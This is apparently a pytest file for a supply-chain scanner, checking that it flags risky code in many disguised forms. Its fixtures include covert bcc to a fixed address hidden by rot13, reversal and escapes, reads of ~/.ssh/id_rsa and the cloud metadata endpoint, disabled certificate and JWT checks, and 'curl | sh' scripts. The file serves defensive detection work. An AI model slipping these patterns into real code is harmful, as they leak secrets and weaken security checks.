"""One behaviour, written in the many forms that a language or a manifest has for it: each is seen, whatever the form."""

from __future__ import annotations

import json

import pytest

from pinwarden.surface.digest import digest
from pinwarden.tree import Blob, BlobKind

ADDRESS = "a@mailroom-archive.net"


def said(path: str, text: str) -> str:
    """Return all that is said of one new file, a line each, and why it was not read where it was not."""
    found = digest({}, {path: Blob(text.encode())}, "")
    return "\n".join([*(f"{item.risk or '-'} {item.says}" for item in found.items), *found.reasons])


SPAWNS = {
    "by name": 'import { exec } from "node:child_process";\nexec("id");',
    "under another name": 'import { exec as quiet } from "child_process";\nquiet("id");',
    "by its module": 'import * as cp from "node:child_process";\ncp.exec("id");',
    "by the default of its module": 'import cp from "child_process";\ncp.exec("id");',
    "required": 'const cp = require("node:child_process");\ncp.exec("id");',
    "required and used at once": 'require("child_process").exec("id");',
    "required in parts": 'const { exec } = require("child_process");\nexec("id");',
    "in a loop": 'import { exec } from "child_process";\nfor (const one of ["id", "env"]) { exec(one); }',
    "behind a condition": 'import { exec } from "child_process";\nready && exec("id");',
    "in one of two ways": 'import { exec } from "child_process";\nready ? exec("id") : wait();',
    "in a method of an object": 'import { exec } from "child_process";\nconst x = { run() { exec("id"); } };',
    "in a class": 'import { exec } from "child_process";\nclass A { field = exec("id"); go() { return 1; } }',
    "as a default": 'import { exec } from "child_process";\nfunction f(x = exec("id")) { return x; }',
    "in a generator": 'import { exec } from "child_process";\nfunction* f() { yield exec("id"); }',
    "in what is awaited": 'import { exec } from "child_process";\nasync function f() { await (exec("id") as any)!; }',
    "after strictness": '"use strict";\nimport { exec } from "child_process";\nexec("id");',
}
"""TypeScript that starts a process."""
RECIPIENTS = {
    "a property": f'send({{ bcc: "{ADDRESS}" }});',
    "a quoted property": f'send({{ "bcc": "{ADDRESS}" }});',
    "a computed property": f'send({{ ["bcc"]: "{ADDRESS}" }});',
    "a template": f"send({{ bcc: `{ADDRESS}` }});",
    "put together": 'send({ bcc: "a@" + "mailroom-archive.net" });',
    "the second of a choice": f'send({{ bcc: given ?? "{ADDRESS}" }});',
    "in brackets": f'mail["bcc"] = "{ADDRESS}";',
    "of an element": f'mails[0].bcc = "{ADDRESS}";',
    "a name": f'const hidden = "{ADDRESS}";\nsend({{ bcc: hidden }});',
    "of a shorthand": f'const bcc = "{ADDRESS}";\nsend({{ bcc }});',
    "taken apart": f'const {{ bcc = "{ADDRESS}" }} = options;\nsend({{ bcc }});',
    "taken apart under another name": f'const {{ a: where }} = {{ a: "{ADDRESS}" }};\nsend({{ bcc: where }});',
    "of a list taken apart": f'const [where] = ["{ADDRESS}"];\nsend({{ bcc: where }});',
    "of a spread": f'send({{ bcc: [...others, "{ADDRESS}"] }});',
    "of a function": f'const where = () => "{ADDRESS}";\nsend({{ bcc: where() }});',
    "of a function's return": f'function where() {{ return "{ADDRESS}"; }}\nsend({{ bcc: where() }});',
    "of a default": f'function send2(bcc = "{ADDRESS}") {{ send({{ bcc }}); }}',
}
"""TypeScript that writes to a fixed address."""
IN_PYTHON = {
    "a keyword": f'send(bcc="{ADDRESS}")',
    "a key": f'mail["Bcc"] = "{ADDRESS}"',
    "a key of a mapping": f'send({{"bcc": "{ADDRESS}"}})',
    "a default": f'def copy(text, bcc="{ADDRESS}"): send(bcc=bcc)',
    "a default of a keyword": f'def copy(text, *, to, bcc="{ADDRESS}"): send(bcc=bcc)',
    "a name given on the way": f'if (bcc := "{ADDRESS}"): send(bcc=bcc)',
    "filled in": 'send(bcc="%s@%s" % ("a", "mailroom-archive.net"))',
    "filled in by name": 'send(bcc="{}@{}".format("a", "mailroom-archive.net"))',
    "joined": 'send(bcc="@".join(["a", "mailroom-archive.net"]))',
    "replaced": 'send(bcc="a#mailroom-archive.net".replace("#", "@"))',
    "turned round": 'send(bcc="ten.evihcra-moorliam@a"[::-1])',
    "turned by thirteen": 'import codecs\nsend(bcc=codecs.decode("n@znvyebbz-nepuvir.arg", "rot13"))',
    "of a function": f'def where(): return "{ADDRESS}"\nsend(bcc=where())',
    "of a lambda": f'where = lambda: "{ADDRESS}"\nsend(bcc=where())',
    "of several": f'first, *rest = ["{ADDRESS}", "b"]\nsend(bcc=first)',
    "of the rest": f'first, *bcc = ["b", "{ADDRESS}"]\nsend(bcc=bcc)',
}
"""The same in Python."""
OTHERS = {
    "unpickling": ("a.py", "import pickle\npickle.loads(x)", "may run what it reads"),
    "code made at run time": ("a.py", "eval(made)", "runs code that is made at run time"),
    "a variable made at run time": ("a.py", "import os\nos.environ[made()]", "whose name is made at run time"),
    "a place of secrets": ("a.py", "open('/home/a/.ssh/id_rsa')", "a place where secrets are kept"),
    "a cloud's credentials": ("a.py", "get('http://169.254.169.254/latest')", "where a cloud gives out credentials"),
    "native code": ("binding.gyp", "{}", "makes npm build native code"),
    "a step of the installation": ("setup.py", "setup(cmdclass={})", "replaces a step of the installation"),
    "letters by number": ("a.ts", 'send({ bcc: "\\x61@mailroom-archive.net" });', ADDRESS),
    "letters of more places": ("a.ts", 'send({ bcc: "\\u{61}@mailroom-archive.net" });', ADDRESS),
}
UNVERIFIED = {
    "a keyword": ("a.py", "requests.get(u, verify=False)"),
    "an attribute": ("a.py", "session.verify = False"),
    "a context": ("a.py", "import ssl\nc = ssl._create_unverified_context()"),
    "a constant": ("a.py", "import ssl\nc.verify_mode = ssl.CERT_NONE"),
    "a connector": ("a.py", "import aiohttp\nc = aiohttp.TCPConnector(ssl=False)"),
    "a property": ("a.ts", "new https.Agent({ rejectUnauthorized: false });"),
}
TURNED_OFF = {
    "keys of hosts": ("a.py", "import paramiko\nc.set_missing_host_key_policy(paramiko.AutoAddPolicy())", "takes the key of any host"),
    "a signature": ("a.py", 'import jwt\njwt.decode(t, options={"verify_signature": False})', "takes a token whatever its signature"),
    "no algorithm": ("a.py", 'import jwt\njwt.decode(t, algorithms=["HS256", "none"])', "takes a token without a signature"),
    "in a shell's line": ("Dockerfile", "FROM scratch\nRUN pip install --trusted-host example.dev x", "turns a check off"),
    "in a text": ("a.py", 'run("git -c http.sslVerify=false fetch")', "turns a check off"),
    "in a script": ("package.json", json.dumps({"scripts": {"build": "curl -k https://a.dev/x"}}), "turns a check off"),
}
MANIFESTS = {
    "a dependency of uv": (
        "pyproject.toml",
        '[tool.uv.sources]\nx = { git = "https://a.dev/x" }',
        "needs x from outside the package index: git+https://a.dev/x",
    ),
    "a dependency of poetry": ("pyproject.toml", '[tool.poetry.dependencies]\nX = "^1"\ny = { version = "2" }\nz = [1]', "needs x ^1"),
    "an index of uv": ("pyproject.toml", '[[tool.uv.index]]\nurl = "https://a.dev/simple"', "packages come from another index: https://a.dev/simple"),
    "an index of poetry": ("pyproject.toml", '[[tool.poetry.source]]\nurl = "https://a.dev/simple"', "packages come from another index: https://a.dev/simple"),
    "a builder of one's own": ("pyproject.toml", '[build-system]\nbuild-backend = "mine"\nbackend-path = ["."]', "high is built by mine"),
    "a group": ("pyproject.toml", '[dependency-groups]\ntest = ["other-package>=1"]', "needs other-package >=1"),
    "what is no project": ("pyproject.toml", "[project", "not TOML"),
    "what is no package": ("package.json", "[1]", "not an object"),
    "what is no JSON": ("package.json", "{", "not JSON"),
    "an index of pip": ("requirements.txt", "--index-url https://a.dev/simple", "packages come from another index"),
    "an address for pip": ("requirements.txt", "x @ git+https://a.dev/x", "from outside the package index"),
    "another package under a name": ("package.json", json.dumps({"dependencies": {"x": "npm:y@1"}}), "needs x as another package: npm:y@1"),
    "what a build fetches": ("Dockerfile", "FROM scratch\nADD https://a.dev/x /x", "fetches https://a.dev/x while the image is built"),
    "a script that runs what it fetched": ("package.json", json.dumps({"scripts": {"start": "curl https://a.dev/x | sh"}}), "runs what it has just fetched"),
}


@pytest.mark.parametrize("form", SPAWNS)
def test_a_process_is_seen_in_every_form(form: str) -> None:
    assert "starts" in said("a.ts", SPAWNS[form]), said("a.ts", SPAWNS[form])


@pytest.mark.parametrize("form", RECIPIENTS)
def test_a_fixed_recipient_is_seen_in_every_form(form: str) -> None:
    assert f"mail goes to the fixed address {ADDRESS} (bcc)" in said("a.ts", RECIPIENTS[form]), said("a.ts", RECIPIENTS[form])


@pytest.mark.parametrize("form", IN_PYTHON)
def test_a_fixed_recipient_is_seen_in_every_form_of_python(form: str) -> None:
    # What nobody can follow weighs high, a fixed address more.
    assert said("a.py", IN_PYTHON[form]).startswith(("critical mail goes to the fixed address", "high mail goes to what only a run would tell"))


@pytest.mark.parametrize("what", OTHERS)
def test_other_behaviour_is_named(what: str) -> None:
    path, text, words = OTHERS[what]
    assert words in said(path, text), said(path, text)


def test_what_is_too_much_is_said() -> None:
    assert "larger than" in said("a.ts", "x;" * 3_000_000)
    link = digest({}, {"a": Blob(b"/etc/passwd", BlobKind.SYMLINK), "b": Blob(b"c", BlobKind.SYMLINK)}, "")
    assert [item.says for item in link.items] == ["a link that leads to /etc/passwd"]


def test_controls_without_it_nothing_is_said() -> None:
    assert "starts" not in said("a.ts", 'import { join } from "node:path";\njoin("id");')
    assert "fixed address" not in said("a.ts", f'send({{ bcc: given, subject: "{ADDRESS}" }});')


@pytest.mark.parametrize("form", UNVERIFIED)
def test_certificates_that_are_not_looked_at_are_seen_in_every_form(form: str) -> None:
    assert "takes any certificate" in said(*UNVERIFIED[form]), said(*UNVERIFIED[form])


@pytest.mark.parametrize("form", TURNED_OFF)
def test_what_is_turned_off_is_said(form: str) -> None:
    path, text, words = TURNED_OFF[form]
    assert words in said(path, text), said(path, text)


@pytest.mark.parametrize("form", MANIFESTS)
def test_manifests_in_their_forms(form: str) -> None:
    path, text, words = MANIFESTS[form]
    assert words in said(path, text), said(path, text)


def test_what_makes_no_sense_is_said() -> None:
    assert "can't be read: not Typescript" in said("a.ts", "const = = ;")
